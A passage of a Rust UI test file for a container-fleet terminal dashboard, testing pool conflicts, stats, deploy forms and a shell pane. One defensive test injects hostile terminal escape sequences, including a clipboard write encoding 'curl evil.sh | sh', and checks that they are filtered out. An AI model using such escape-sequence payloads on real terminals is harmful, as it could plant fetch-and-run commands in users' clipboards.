    let text = buffer_to_text(&render(&mut app, 120, 30));
    assert!(text.contains("IP conflict"), "{text}");
    key(&mut app, KeyCode::Char('1'));
    let text = buffer_to_text(&render(&mut app, 120, 30));
    assert!(text.contains("4 IP conflicts"), "{text}");
}

/// The app with the two prod-us hosts on one LAN that only the networks tell of: macvlan on
/// parent eth0, 10.77.0.0/24, gateway .1 and aux .254 alike on both, and ip-ranges that
/// overlap (us-east-02's /25 around us-east-01's /26).
fn lan_pools_app() -> App {
    use fleetdeck::model::endpoint::{IpamPool, NetworkInfo};
    let mut app = app();
    let net = |range: &str| NetworkInfo {
        id: format!("lan-{range}"),
        name: "lan".into(),
        driver: "macvlan".into(),
        scope: "local".into(),
        pools: vec![IpamPool {
            subnet: "10.77.0.0/24".into(),
            ip_range: Some(range.into()),
            gateway: Some("10.77.0.1".into()),
            aux_addresses: BTreeMap::from([("router".into(), "10.77.0.254".into())]),
        }],
        options: BTreeMap::from([("parent".into(), "eth0".into())]),
        ..NetworkInfo::default()
    };
    for (endpoint, range) in [(0, "10.77.0.128/26"), (1, "10.77.0.128/25")] {
        app.apply(Msg {
            endpoint,
            at: now(),
            kind: MsgKind::Networks(vec![net(range)]),
        });
    }
    let mut on_lan = container("c9", "cache-1", ContainerState::Running, "10.77.0.130");
    on_lan.networks[0].network = "lan".into();
    app.apply(Msg {
        endpoint: 0,
        at: now(),
        kind: MsgKind::ContainerChanged(Box::new(on_lan)),
    });
    app
}

#[test]
fn a_detected_lan_pool_says_so_and_names_overlapping_ranges() {
    let mut app = lan_pools_app();
    let theme = Theme::dark();
    key(&mut app, KeyCode::Char('6'));
    key(&mut app, KeyCode::Enter);
    let buf = render(&mut app, 100, 30);
    snap!("pool_detected_lan_100x30", buf.clone());
    let text = buffer_to_text(&buf);
    assert!(text.contains("shared (detected)"), "{text}");
    assert!(
        text.contains("detected: macvlan/ipvlan on parent eth0"),
        "{text}"
    );
    // The gateway both hosts declare is the pool's own: no "taken 2 times".
    assert!(!text.contains("taken 2 times"), "{text}");
    let (x, y) = find_cell(&buf, "✖ the ip-ranges of us-east-01 and us-east-02 overlap");
    assert_eq!(buf[(x, y)].bg, theme.pool_conflict.bg.unwrap());
    assert!(
        text.contains("overlap: 10.77.0.128/26; give each host its own"),
        "{text}"
    );
    assert!(
        text.contains("none (see the overlapping ip-ranges above)"),
        "{text}"
    );
}

/// The app with ten minutes of stats for two containers: one busy, one idle.
fn stats_app() -> App {
    use fleetdeck::model::stats::{CpuCounters, RawStats};
    let mut app = app();
    let interval = Duration::from_secs(2);
    let start = now() - TimeDelta::minutes(10);
    // The busy one ramps up to a full core over the first half of the window. Two CPUs and a
    // 2 s interval: 1 % of one core is 2e7 ns of CPU per sample.
    let mut busy_total = 0u64;
    for i in 0..300_i64 {
        let at = start + TimeDelta::seconds(i * 2);
        busy_total += (i.min(150) as u64) * 100 / 150 * 20_000_000;
        let raw = |busy: bool, mem: u64| RawStats {
            read: at,
            started_at: None,
            cpu: CpuCounters {
                total_usage: if busy { busy_total } else { 0 },
                system_usage: (i as u64) * 4_000_000_000,
                online_cpus: 2,
                percpu_count: 2,
            },
            mem_usage: mem,
            mem_limit: 8 << 30,
            ..RawStats::default()
        };
        app.apply(Msg {
            endpoint: 0,
            at,
            kind: MsgKind::Stats {
                interval,
                samples: vec![
                    (format!("c1{}", "0".repeat(62)), raw(true, 512 << 20)),
                    (format!("c2{}", "0".repeat(62)), raw(false, 64 << 20)),
                ],
            },
        });
    }
    app
}

#[test]
fn stats_view_ranks_the_fleet_with_sparklines_and_charts() {
    let mut app = stats_app();
    key(&mut app, KeyCode::Char('7'));
    let buf = render(&mut app, 80, 24);
    snap!("stats_80x24", buf.clone());
    let text = buffer_to_text(&buf);
    let web = text.find("web-1").expect("busy container listed");
    let api = text.find("api-1").expect("idle container listed");
    assert!(web < api, "busiest first:\n{text}");
    assert!(
        text.contains('█') && text.contains('▁'),
        "sparklines drawn:\n{text}"
    );
    snap!("stats_200x50", render(&mut app, 200, 50));
    key(&mut app, KeyCode::Enter);
    let buf = render(&mut app, 120, 40);
    snap!("stats_charts_120x40", buf.clone());
    let text = buffer_to_text(&buf);
    for title in ["CPU", "memory 512M of 8.0G", "network", "IO"] {
        assert!(text.contains(title), "{title} chart:\n{text}");
    }
    assert!(
        text.contains("-596s") && text.contains("now"),
        "x axis spans the window:\n{text}"
    );
    assert!(text.contains("CPU 100.0%"), "{text}");
    // The containers table shows the same figures; the clusters view the host share.
    key(&mut app, KeyCode::Esc);
    key(&mut app, KeyCode::Char('2'));
    let text = buffer_to_text(&render(&mut app, 200, 50));
    assert!(
        text.contains("CPU%") && text.contains("512M/8.0G"),
        "{text}"
    );
    key(&mut app, KeyCode::Char('1'));
    let text = buffer_to_text(&render(&mut app, 200, 50));
    assert!(text.contains("cpu "), "cluster cpu/mem totals:\n{text}");
}

#[test]
fn the_wall_rotates_its_views_and_raises_a_banner_while_something_is_wrong() {
    let mut app = app();
    let settings = fleetdeck::config::WallSettings::default();
    app.enable_wall(&settings);
    let theme = Theme::dark();
    let mut seen = Vec::new();
    for step in 0..4 {
        let buf = render(&mut app, 120, 30);
        let text = buffer_to_text(&buf);
        seen.push(app.view.view);
        snap!(format!("wall_step{step}_120x30"), buf.clone());
        // The banner: the down endpoint and the OOM kill are named, in the loud style.
        assert!(text.contains("NEED ATTENTION"), "{text}");
        assert!(
            text.contains("eu-west-01: endpoint down (connection refused)"),
            "{text}"
        );
        let (x, y) = find_cell(&buf, "NEED ATTENTION");
        assert_eq!(buf[(x, y)].bg, theme.pool_conflict.bg.unwrap());
        // Freshness per endpoint, no key hints.
        assert!(
            text.contains("last heard:") && text.contains("eu-west-01 DOWN"),
            "{text}"
        );
        assert!(!text.contains("? help"), "no key hints on a wall:\n{text}");
        // Passers-by pressing keys change nothing.
        for c in ['2', '/', 'x', '\n'] {
            key(&mut app, KeyCode::Char(c));
        }
        key(&mut app, KeyCode::Tab);
        assert_eq!(app.view.view, seen[step]);
        assert!(!app.quit);
        assert!(
            app.tick(app.now + TimeDelta::seconds(15)),
            "the wall rotates"
        );
    }
    use fleetdeck::model::View;
    assert_eq!(
        seen,
        [View::Clusters, View::Triage, View::Pools, View::Events]
    );
    assert_eq!(app.view.view, View::Clusters, "and round again");
    key(&mut app, KeyCode::Char('q'));
    assert!(app.quit, "the quit key still quits");

    // With quitting disabled, nothing does.
    let mut app = self::app();
    app.enable_wall(&fleetdeck::config::WallSettings {
        quit_key: None,
        ..settings
    });
    key(&mut app, KeyCode::Char('q'));
    app.handle_key(KeyEvent::new(KeyCode::Char('c'), KeyModifiers::CONTROL));
    assert!(!app.quit);
}

#[test]
fn a_healthy_fleet_on_the_wall_has_no_banner() {
    let config = config();
    let mut app = App::new(&config, Theme::dark());
    app.now = now();
    for i in 0..3 {
        app.apply(Msg {
            endpoint: i,
            at: now(),
            kind: MsgKind::Synced(Box::new(SyncData {
                info: info(),
                containers: vec![container(
                    &format!("h{i}"),
                    &format!("ok-{i}"),
                    ContainerState::Running,
                    "10.0.0.9",
                )],
                ..SyncData::default()
            })),
        });
    }
    app.enable_wall(&fleetdeck::config::WallSettings::default());
    let text = buffer_to_text(&render(&mut app, 80, 24));
    assert!(!text.contains("ATTENTION"), "{text}");
    assert!(text.contains("fleetdeck wall · 3/3 up"), "{text}");
}

#[test]
fn the_command_line_jumps_to_a_view_with_a_scope_and_completes_names() {
    let mut app = app();
    key(&mut app, KeyCode::Char(':'));
    for c in "cont".chars() {
        key(&mut app, KeyCode::Char(c));
    }
    key(&mut app, KeyCode::Tab);
    for c in "@prod-u".chars() {
        key(&mut app, KeyCode::Char(c));
    }
    key(&mut app, KeyCode::Tab);
    let text = buffer_to_text(&render(&mut app, 80, 24));
    assert!(text.contains(":containers @prod-us"), "completed:\n{text}");
    key(&mut app, KeyCode::Enter);
    assert_eq!(app.view.view, fleetdeck::model::View::Containers);
    assert_eq!(app.view.filter.as_str(), "cluster:prod-us");
    let text = buffer_to_text(&render(&mut app, 120, 30));
    assert!(
        text.contains("web-1") && !text.contains("web-eu-1"),
        "{text}"
    );

    key(&mut app, KeyCode::Char(':'));
    for c in "events @nowhere".chars() {
        key(&mut app, KeyCode::Char(c));
    }
    key(&mut app, KeyCode::Enter);
    let text = buffer_to_text(&render(&mut app, 200, 30));
    assert!(
        text.contains("no cluster or endpoint named \"nowhere\""),
        "{text}"
    );
    key(&mut app, KeyCode::Esc);
    assert!(app.view.command_input.is_none());
}

#[test]
fn destructive_keys_ask_first_naming_containers_and_endpoints() {
    let mut app = app();
    key(&mut app, KeyCode::Char('2'));
    // Mark two containers on two endpoints, then restart.
    search(&mut app, "name:web");
    key(&mut app, KeyCode::Char('j')); // past eu-west-01/web-eu-1
    key(&mut app, KeyCode::Char(' ')); // us-east-01/web-1
    key(&mut app, KeyCode::Char(' ')); // us-east-02/web-2
    key(&mut app, KeyCode::Char('r'));
    let buf = render(&mut app, 100, 30);
    snap!("confirm_restart_100x30", buf.clone());
    let text = buffer_to_text(&buf);
    assert!(
        text.contains("restart 2 containers on 2 endpoints"),
        "{text}"
    );
    // Tab does something on a kill or an rm confirmation only: not offered here.
    assert!(!text.contains("next signal"), "{text}");
    assert!(
        text.contains("us-east-01/web-1 (running)") && text.contains("us-east-02/web-2 (running)"),
        "{text}"
    );
    assert!(app.commands.is_empty(), "nothing is sent before y");
    key(&mut app, KeyCode::Char('y'));
    match app.commands.last() {
        Some(fleetdeck::app::Command::Actions { requests }) => {
            let names: Vec<&str> = requests.iter().map(|r| r.container.as_str()).collect();
            assert_eq!(names, ["web-1", "web-2"]);
        }
        other => panic!("expected actions, got {other:?}"),
    }
    assert!(app.view.marked.is_empty(), "marks are used up");

    // Kill offers a signal choice; n cancels and nothing is sent.
    let sent = app.commands.len();
    key(&mut app, KeyCode::Char('K'));
    assert!(
        buffer_to_text(&render(&mut app, 100, 30)).contains("Tab kill: next signal"),
        "a kill offers its signals"
    );
    key(&mut app, KeyCode::Tab);
    let text = buffer_to_text(&render(&mut app, 100, 30));
    assert!(text.contains("SIGTERM"), "{text}");
    key(&mut app, KeyCode::Char('n'));
    assert_eq!(app.commands.len(), sent);
    assert!(app.view.confirm.is_none());
}

#[test]
fn read_only_endpoints_wear_a_lock_and_refuse_action_keys_with_a_reason() {
    let mut config = config();
    for ep in &mut config.endpoints {
        ep.read_only = ep.cluster == "prod-us";
    }
    let mut app = App::new(&config, Theme::dark());
    let fresh = self::app();
    app.fleet = fresh.fleet.clone();
    for (ep, spec) in app.fleet.endpoints.iter_mut().zip(&config.endpoints) {
        ep.spec.read_only = spec.read_only;
    }
    app.now = now();
    let buf = render(&mut app, 120, 30);
    snap!("clusters_read_only_120x30", buf.clone());
    let text = buffer_to_text(&buf);
    assert!(
        text.contains("us-east-01 [RO]") && !text.contains("eu-west-01 [RO]"),
        "{text}"
    );
    key(&mut app, KeyCode::Char('2'));
    // First row is eu-west-01 (writable): the restart hint is there.
    let text = buffer_to_text(&render(&mut app, 120, 30));
    assert!(text.contains("r restart"), "{text}");
    key(&mut app, KeyCode::Char('j'));
    let text = buffer_to_text(&render(&mut app, 120, 30));
    assert!(
        !text.contains("r restart"),
        "hidden on a read-only endpoint:\n{text}"
    );
    key(&mut app, KeyCode::Char('r'));
    // No confirmation; the refused request still goes to the gate, which audits the refusal.
    assert!(app.view.confirm.is_none());
    assert!(
        matches!(app.commands.as_slice(), [fleetdeck::app::Command::Actions { requests }]
            if requests.len() == 1 && requests[0].container == "api-1"),
        "{:?}",
        app.commands
    );
    let text = buffer_to_text(&render(&mut app, 140, 30));
    assert!(
        text.contains("restart refused: us-east-01 is read-only"),
        "{text}"
    );
}

/// The stats collector samples what is on screen every interval and the rest less often; the
/// app tells it which containers those are, from the frame it just laid out.
#[test]
fn stats_focus_is_the_rows_on_screen_and_everything_in_the_stats_view() {
    use fleetdeck::model::View;
    let mut app = app();
    let count = |focus: &[fleetdeck::engine::stats::Focus]| -> usize {
        focus
            .iter()
            .map(|f| f.as_ref().map_or(0, |s| s.on_screen.len()))
            .sum()
    };
    // Clusters view: no container row on screen.
    app.view.view = View::Clusters;
    app.prepare_frame(80, 24);
    let focus = app.stats_focus(false);
    assert_eq!(focus.len(), 3);
    assert!(
        focus.iter().all(Option::is_some) && count(&focus) == 0,
        "{focus:?}"
    );
    // ...but each host's totals: containers without a rate yet are caught up on.
    assert!(focus.iter().flatten().all(|s| s.totals), "{focus:?}");
    // Containers view, tall: all six rows; short: only the rows that fit.
    app.view.view = View::Containers;
    app.prepare_frame(80, 24);
    assert_eq!(count(&app.stats_focus(false)), 6);
    assert!(app.stats_focus(false).iter().flatten().all(|s| !s.totals));
    app.prepare_frame(80, 8);
    let short = count(&app.stats_focus(false));
    assert!((1..6).contains(&short), "{short} rows on an 8-line screen");
    // Sorted by CPU, the table ranks every container: all fresh.
    app.view.sort.column = fleetdeck::model::query::Column::Cpu;
    assert!(app.stats_focus(false).iter().all(Option::is_none));
    app.view.sort.column = fleetdeck::model::query::Column::Name;
    assert!(app.stats_focus(false).iter().all(Option::is_some));
    // The stats view ranks the whole fleet; an InfluxDB export wants everything.
    assert!(app.stats_focus(true).iter().all(Option::is_none));
    app.view.view = View::Stats;
    assert!(app.stats_focus(false).iter().all(Option::is_none));
}

/// Hostile shell output goes through the whole path a frame takes to the operator's terminal:
/// engine message → the pane's emulator → the widgets → ratatui's crossterm backend, written
/// into a byte sink. Only the rendered cells come out: no OSC (title, clipboard), no DCS, no
/// BEL, no C1; the cursor-position query is answered to the shell, not the terminal.
#[test]
fn hostile_shell_output_never_reaches_the_host_terminal() {
    use fleetdeck::model::shell::{Emulator, ShellTarget};
    use ratatui::backend::CrosstermBackend;
    use ratatui::layout::Rect;
    use ratatui::{TerminalOptions, Viewport};

    let mut app = app();
    let (w, h) = (100u16, 30u16);
    app.prepare_frame(w, h);
    let (rows, cols) = app.shell_terminal_size();
    let shell = app.shells.open(
        ShellTarget::Exec {
            endpoint: 0,
            container_id: "c1".into(),
            container: "web-1".into(),
        },
        "lab1/web-1".into(),
        Emulator::new(rows, cols, 100),
    );
    let msg = |kind| Msg {
        endpoint: 0,
        at: now(),
        kind,
    };
    app.apply(msg(MsgKind::ShellStarted { shell }));
    let hostile: &[u8] = b"before\x1b]0;pwned-title\x07\
        \x1b]2;pwned-title2\x1b\\\
        \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\
        \x1bP+q544e\x1b\\\
        \x1bPq#0;2;0;0;0#0~~\x1b\\\
        \x1b_apc-payload\x1b\\\
        \x1b[6n\x07\
        \xc2\x9d8;;http://evil\xc2\x9c\xe2\x80\xae-rtl\
        after";
    app.apply(msg(MsgKind::ShellOutput {
        shell,
        bytes: hostile.to_vec(),
    }));

    // The query was answered to the shell: ESC [ row ; col R.
    let answered = app.commands.iter().any(|c| {
        matches!(c, fleetdeck::app::Command::ShellInput {
            input: fleetdeck::engine::shell::ShellInput::Bytes(b), ..
        } if b.starts_with(b"\x1b[1;") && b.ends_with(b"R"))
    });
    assert!(answered, "{:?}", app.commands);

    /// A terminal that keeps every byte written to it.
    #[derive(Clone, Default)]
    struct Sink(std::sync::Arc<std::sync::Mutex<Vec<u8>>>);
    impl std::io::Write for Sink {
        fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
            self.0.lock().unwrap().extend_from_slice(buf);
            Ok(buf.len())
        }
        fn flush(&mut self) -> std::io::Result<()> {
            Ok(())
        }
    }
    let sink = Sink::default();
    let backend = CrosstermBackend::new(sink.clone());
    let mut term = Terminal::with_options(
        backend,
        TerminalOptions {
            viewport: Viewport::Fixed(Rect::new(0, 0, w, h)),
        },
    )
    .unwrap();
    app.prepare_frame(w, h);
    term.draw(|f| app.draw(f)).unwrap();
    let out = sink.0.lock().unwrap().clone();
    let text = String::from_utf8_lossy(&out);
    assert!(
        text.contains("before") && text.contains("after"),
        "the pane was drawn"
    );
    for (what, needle) in [
        ("OSC", &b"\x1b]"[..]),
        ("DCS", b"\x1bP"),
        ("APC", b"\x1b_"),
        ("PM", b"\x1b^"),
        ("BEL", b"\x07"),
        ("C1 OSC", "\u{9d}".as_bytes()),
        ("C1 ST", "\u{9c}".as_bytes()),
        ("bidi override", "\u{202e}".as_bytes()),
        ("title", b"pwned"),
        ("clipboard payload", b"Y3VybCBldmlsLnNoIHwgc2g"),
        ("APC payload", b"apc-payload"),
        ("cursor report", b"\x1b[6n"),
    ] {
        assert!(
            !out.windows(needle.len()).any(|w| w == needle),
            "{what} reached the terminal: {text:?}"
        );
    }
}

/// The pane under the view at 80x24: tabs with their state, the focus key, the view above
/// still drawn, and the exit status of a shell that ended.
#[test]
fn the_shell_pane_sits_under_the_view_with_its_tabs() {
    use fleetdeck::model::shell::{Emulator, ShellState, ShellTarget};
    let mut app = app();
    app.prepare_frame(80, 24);
    let (rows, cols) = app.shell_terminal_size();
    assert_eq!(
        (rows, cols),
        (11, 78),
        "60% of the 22-row body, inside its border"
    );
    let msg = |kind| Msg {
        endpoint: 0,
        at: now(),
        kind,
    };
    let host = app.shells.open(
        ShellTarget::Host { endpoint: 1 },
        "us-east-02 (host)".into(),
        Emulator::new(rows, cols, 10),
    );
    app.apply(msg(MsgKind::ShellEnded {
        shell: host,
        state: ShellState::Exited(Some(130)),
    }));
    let exec = app.shells.open(
        ShellTarget::Exec {
            endpoint: 0,
            container_id: "c1".into(),
            container: "web-1".into(),
        },
        "us-east-01/web-1".into(),
        Emulator::new(rows, cols, 10),
    );
    app.apply(msg(MsgKind::ShellStarted { shell: exec }));
    app.apply(msg(MsgKind::ShellOutput {
        shell: exec,
        bytes: b"/ # ls\r\nbin   dev   etc   home  proc  root  sys   tmp   usr   var\r\n/ # "
            .to_vec(),
    }));
    let buf = render(&mut app, 80, 24);
    insta::assert_snapshot!("shell_pane_80x24", buffer_to_text(&buf));
    // Back on the dashboard, the earlier tab shows how its shell ended.
    key(&mut app, KeyCode::Char('5'));
    app.handle_key(KeyEvent::new(KeyCode::Char('5'), KeyModifiers::CONTROL));
    assert!(!app.shells.focused);
    key(&mut app, KeyCode::Char('{'));
    let text = buffer_to_text(&render(&mut app, 80, 24));
    assert!(text.contains("us-east-02 (host): exited 130"), "{text}");
}

#[test]
fn a_wall_display_opens_no_shell() {
    let mut app = app();
    app.enable_wall(&fleetdeck::config::WallSettings::default());
    app.perform(fleetdeck::app::Action::HostShell);
    app.perform(fleetdeck::app::Action::Exec);
    assert!(app.shells.is_empty());
    assert!(app.commands.is_empty());
}

/// Types `text` into the focused field of the deploy form after clearing it.
fn retype(app: &mut App, text: &str) {
    for _ in 0..40 {
        key(app, KeyCode::Backspace);
    }
    for c in text.chars() {
        key(app, KeyCode::Char(c));
    }
}

/// A row from the list alone (its inspect not in yet) has no command or network mode: `d`
/// says so instead of opening a form that would offer to drop them, and opens it once the
/// inspect is in.
#[test]
fn the_deploy_form_waits_for_the_selected_containers_inspect() {
    let mut app = pools_app();
    key(&mut app, KeyCode::Char('2'));
    search(&mut app, "ep:us-east-01 name:web");
    let ep = app
        .fleet
        .endpoints
        .iter_mut()
        .find(|e| e.name() == "us-east-01")
        .unwrap();
    let id = ep
        .containers
        .values()
        .find(|c| c.name == "web-1")
        .unwrap()
        .id
        .clone();
    ep.awaiting_details.insert(id.clone());
    key(&mut app, KeyCode::Char('d'));
    assert!(app.view.deploy_form.is_none(), "no form from a listed row");
    let text = buffer_to_text(&render(&mut app, 100, 30));
    assert!(
        text.contains("web-1: its details (command, networks) are still loading"),
        "{text}"
    );
    for ep in &mut app.fleet.endpoints {
        ep.awaiting_details.remove(&id);
    }
    key(&mut app, KeyCode::Char('d'));
    assert!(app.view.deploy_form.is_some(), "the form, once inspected");
}

#[test]
fn the_deploy_form_checks_as_you_type_and_shows_the_plan_before_anything_is_sent() {
    let mut app = pools_app();
    let theme = Theme::dark();
    key(&mut app, KeyCode::Char('2'));
    // The filter puts us-east-01/web-1 on top; d opens the form prefilled to update it.
    search(&mut app, "ep:us-east-01 name:web");
    key(&mut app, KeyCode::Char('d'));
    let buf = render(&mut app, 100, 30);
    snap!("deploy_form_100x30", buf.clone());

    // The ip field: an address another container uses is refused there, as typed.
    for _ in 0..4 {
        key(&mut app, KeyCode::Tab);
    }
    retype(&mut app, "192.168.2.21");
    let buf = render(&mut app, 100, 30);
    let text = buffer_to_text(&buf);
    assert!(
        text.contains("ip: 192.168.2.21 is taken: used by us-east-01/api-1"),
        "{text}"
    );
    let (x, y) = find_cell(&buf, "ip  ");
    assert_eq!(
        buf[(x, y)].fg,
        theme.error.fg.unwrap(),
        "the field is marked"
    );
    // Outside the pool, and a bad image, each in its own words.
    retype(&mut app, "10.9.9.9");
    let text = buffer_to_text(&render(&mut app, 100, 30));
    assert!(text.contains("ip: 10.9.9.9 is outside the pool"), "{text}");
    let problems: Vec<String> = app
        .view
        .deploy_form
        .as_ref()
        .unwrap()
        .problems
        .iter()
        .map(ToString::to_string)
        .collect();
    assert_eq!(
        problems,
        [
            "ip: 10.9.9.9 is outside the pool of network dockernet on us-east-01 (subnet \
          192.168.2.0/24, range 192.168.2.0/26)"
        ]
    );
    // Enter with a problem plans nothing.
    key(&mut app, KeyCode::Enter);
    assert!(app.view.plan.is_none() && app.commands.is_empty());
    retype(&mut app, "auto");
    key(&mut app, KeyCode::Enter);
    let buf = render(&mut app, 100, 30);
    snap!("deploy_plan_100x30", buf.clone());
    let text = buffer_to_text(&buf);
    assert!(
        text.contains("ip       192.168.2.20 (auto: kept from the running web-1)"),
        "{text}"
    );
    // Nothing is sent before y: only the running revision is read, for the plan's changes.
    let asked = std::mem::take(&mut app.commands);
    let Some(fleetdeck::app::Command::ReviewDeploy { plan: mut reviewed }) =
        asked.into_iter().next()
    else {
        panic!("expected the plan to be read against the running revision first");
    };
    assert!(
        text.contains("changes  reading the running revision's settings…"),
        "{text}"
    );
    // The engine's answer takes the plan's place: every change, env values masked.
    reviewed.review = fleetdeck::model::deploy::carry::Review::Read {
        changes: vec![
            "~ Env TOKEN (value changed)".into(),
            "~ Image nginx:1.25 → nginx:1.27".into(),
        ],
        drops: vec![],
    };
    app.apply(Msg {
        endpoint: reviewed.endpoint,
        at: chrono::Utc::now(),
        kind: fleetdeck::model::MsgKind::DeployReviewed(reviewed),
    });
    let text = buffer_to_text(&render(&mut app, 100, 30));
    assert!(
        text.contains("changes  ~ Env TOKEN (value changed)"),
        "{text}"
    );
    assert!(text.contains("~ Image nginx:1.25 → nginx:1.27"), "{text}");
    key(&mut app, KeyCode::Char('y'));
    match app.commands.last() {
        Some(fleetdeck::app::Command::Deploy { plan }) => {
            assert_eq!(plan.endpoint_name, "us-east-01");
            assert_eq!(plan.name, "web-1");
            assert_eq!(plan.create.network.as_deref(), Some("dockernet"));
        }
        other => panic!("expected a deploy, got {other:?}"),
    }
}

#[test]
fn the_rollback_key_plans_the_swap_to_the_kept_revision() {
    let mut app = app();
    let labels = |rev: &str, image: &str| {
        BTreeMap::from([
            ("fleetdeck.deploy.service".to_string(), "cart".to_string()),
            ("fleetdeck.deploy.revision".to_string(), rev.to_string()),
            ("fleetdeck.deploy.image".to_string(), image.to_string()),
            (
                "fleetdeck.deploy.time".to_string(),
                "2026-11-26T11:00:00Z".to_string(),
            ),
            ("fleetdeck.deploy.by".to_string(), "ops@deck".to_string()),
        ])
    };
    let mut live = container("d1", "cart", ContainerState::Running, "192.168.2.40");
    live.labels = labels("2", "shop/cart:2");
    live.image = "shop/cart:2".into();
    let mut kept = container("d2", "cart--r1", ContainerState::Exited, "192.168.2.40");
    kept.labels = labels("1", "shop/cart:1");
    for c in [live, kept] {
        app.apply(Msg {
            endpoint: 1,
            at: now(),
            kind: MsgKind::ContainerChanged(Box::new(c)),
        });
    }
    key(&mut app, KeyCode::Char('2'));
    search(&mut app, "name:cart state:running");
    key(&mut app, KeyCode::Char('b'));
    let buf = render(&mut app, 100, 30);
    snap!("rollback_plan_100x30", buf.clone());
    let text = buffer_to_text(&buf);
    assert!(
        text.contains("roll back us-east-02/cart from revision 2 (shop/cart:2) to revision 1"),
        "{text}"
    );
    assert!(
        !text.contains("next signal"),
        "no kill/rm hint on a plan: {text}"
    );
    key(&mut app, KeyCode::Char('n'));
    assert!(app.commands.is_empty() && app.view.plan.is_none());
    // A container without kept revisions says so instead.
    key(&mut app, KeyCode::Esc);
    key(&mut app, KeyCode::Char('b'));
    assert!(
        app.view
            .message
            .as_deref()
            .is_some_and(|m| m.contains("has no kept revision")),
        "{:?}",
        app.view.message
    );
}

/// A placeholder ("no containers yet") styles its words, not the whole table: a dim style on
/// every blank cell made the first real frame rewrite 10,000 cells (22 KB on a 200x50 screen
/// over SSH instead of 5 KB).
#[test]
fn empty_view_placeholders_style_only_their_text() {
    use fleetdeck::model::View;
    let blank = ratatui::buffer::Cell::default().style();
    let mut app = App::new(&config(), Theme::dark());
    app.now = now();
    for view in [
        View::Containers,
        View::Events,
        View::Pools,
        View::Stats,
        View::Logs,
    ] {
        app.view.view = view;
        let buf = render(&mut app, 120, 30);
        let styled_blanks = buf
            .content()
            .iter()
            .filter(|c| c.symbol() == " " && c.style() != blank)
            .count();
        // Headers, footers and selections may style a few blanks; not a whole empty table.
        assert!(
            styled_blanks < 120 * 4,
            "{view:?}: {styled_blanks} styled blank cells\n{}",
            buffer_to_text(&buf)
        );
    }
}

/// Following with wrap on: the newest line ends on the view's bottom row, nothing blank under
/// it, whether the line above it fits whole or not, and when the newest alone is taller than
/// the view.
#[test]
fn wrap_and_follow_keep_the_newest_line_on_the_bottom_row() {
    use fleetdeck::model::logs::{LogBuffer, LogLine, LogSource, LogStream};
    use fleetdeck::ui::state::LogView;
    let sources = vec![LogSource {
        endpoint: 0,
        container_id: "c1".into(),
        tag: "us-east-01/web-1".into(),
    }];
    let at = |s: i64| Some(now() + TimeDelta::seconds(s));
    // Words that wrap early: more rows than the line's width suggests.
    let words = "wrapping-words-of-thirteen ".repeat(60);
    let cases: [(&str, Vec<String>); 3] = [
        (
            "a tall line above a short newest one",
            vec![
                "A".repeat(3_000),
                words.clone(),
                "the newest line ends here".into(),
            ],
        ),
        (
            "lines that wrap at word ends",
            (0..6)
                .map(|_| words.clone())
                .chain(["the newest line ends here".into()])
                .collect(),
        ),
        (
            "a newest line taller than the view",
            vec![
                "older".into(),
                format!("{} the newest line ends here", "B".repeat(5_000)),
            ],
        ),
    ];
    for (case, texts) in cases {
        let mut app = app();
        let mut buffer = LogBuffer::new(sources.clone(), 100);
        buffer.extend(
            texts
                .iter()
                .enumerate()
                .map(|(i, t)| LogLine::from_raw(0, at(i as i64), LogStream::Stdout, t)),
        );
        app.logs = Some(LogView::new(1, buffer));
        key(&mut app, KeyCode::Char('5'));
        key(&mut app, KeyCode::Char('w'));
        assert!(app.logs.as_ref().unwrap().wrap && app.logs.as_ref().unwrap().follow);
        let buf = render(&mut app, 80, 24);
        let text = buffer_to_text(&buf);
        let (x, y) = find_cell(&buf, "ends here");
        let below: String = (0..buf.area.width)
            .map(|x| buf[(x, y + 1)].symbol().to_string())
            .collect();
        assert!(
            below.starts_with('└'),
            "{case}: the row under the newest line is the frame's bottom, not {below:?}:\n{text}"
        );
        assert!(x > 0, "{case}");
    }
}

#[test]
fn the_selection_stays_on_the_first_row_while_endpoints_sync_until_the_operator_moves() {
    let mut app = App::new(&config(), Theme::dark());
    app.now = now();
    key(&mut app, KeyCode::Char('2'));
    let sync = |app: &mut App, endpoint: usize, names: &[&str]| {
        let containers = names
            .iter()
            .enumerate()
            .map(|(i, n)| {
                // The id follows the name, as a container's does across syncs.
                container(
                    &format!("e{endpoint}{}", n.replace('-', "")),
                    n,
                    ContainerState::Running,
                    &format!("10.0.{endpoint}.{i}"),
                )
            })
            .collect();
        app.apply(Msg {
            endpoint,
            at: now(),
            kind: MsgKind::Synced(Box::new(SyncData {
                info: info(),
                containers,
                ..SyncData::default()
            })),
        });
    };
    let first_row = |app: &mut App| {
        let buf = render(app, 100, 20);
        let (_, y) = find_cell(&buf, "ENDPOINT");
        let row: String = (0..100)
            .map(|x| buf[(x, y + 1)].symbol().to_string())
            .collect();
        (app.view.selected, row)
    };
    // Endpoints answer in an order that puts later rows first (sorted by endpoint: eu-west-01
    // sorts before us-east-0x), each sync inserting rows above the selected one.
    sync(&mut app, 1, &["b-1", "b-2", "b-3"]);
    first_row(&mut app);
    sync(&mut app, 2, &["c-1", "c-2"]);
    first_row(&mut app);
    sync(&mut app, 0, &["a-1", "a-2"]);
    let (selected, row) = first_row(&mut app);
    assert_eq!(selected, 0, "still on the first row");
    assert!(row.contains("eu-west-01") && row.contains("c-1"), "{row}");

    // Once the operator moves, the selection follows its container as rows arrive above it.
    key(&mut app, KeyCode::Char('j'));
    let (selected, _) = first_row(&mut app);
    assert_eq!(selected, 1);
    let chosen = app.view.selected_key.clone().expect("a chosen row");
    sync(&mut app, 2, &["c-0", "c-1", "c-2"]);
    first_row(&mut app);
    assert_eq!(
        app.view.selected, 2,
        "the chosen container moved down one row"
    );
    assert_eq!(app.view.selected_key, Some(chosen));
}

/// The help overlay's box in a rendered screen: its left and right border columns and the rows
/// between its top and bottom borders.
fn help_box(buf: &Buffer) -> (u16, u16, std::ops::Range<u16>) {
    let text = buffer_to_text(buf);
    let lines: Vec<&str> = text.lines().collect();
    let top = lines
        .iter()
        .position(|l| l.contains("keys · any key closes"))
        .expect("the help overlay is open") as u16;
    let row = |y: u16| -> Vec<String> {
        (0..buf.area.width)
            .map(|x| buf[(x, y)].symbol().to_string())
            .collect()
    };
    let cells = row(top);
    let joined: String = cells.concat();
    let title = joined[..joined.find("keys · any key closes").unwrap()]
        .chars()
        .count();
    let left = cells[..title].iter().rposition(|c| c == "┌").unwrap() as u16;
